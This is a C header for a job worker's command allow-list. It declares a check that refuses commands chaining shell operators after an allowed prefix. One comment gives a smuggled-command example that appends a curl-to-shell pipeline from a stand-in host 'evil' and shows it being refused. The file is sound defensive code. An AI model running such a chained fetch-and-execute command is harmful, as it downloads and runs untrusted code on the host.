// allow: the command allow-list of a worker (--allow-command PREFIX,
// repeatable). A worker started with one runs only commands that begin with
// one of its prefixes; any other trial fails with an error naming the flag.
#ifndef CGQ_ALLOW_H
#define CGQ_ALLOW_H

#include "wire.h"

// cgq_allow_check returns NULL when the command of Assign a may run under
// prefixes (entries separated by '\n'; NULL or empty: everything may run),
// else the reason, one line (caller frees).
//
// The command is what the spec said: the string given to /bin/sh -c, or the
// argv list joined by spaces. A prefix matches at a word boundary (the
// command ends there, or a space follows, or the prefix ends in '/' or a
// space). A shell command must not go on, after the prefix, with a shell
// operator outside quotes (; & | < > ( ) ` $ or a newline), nor with $ or `
// inside double quotes: "python3 train.py; curl evil | sh" is refused under
// the prefix "python3 train.py".
char *cgq_allow_check (const char *prefixes, const Cgq__Assign *a);

#endif
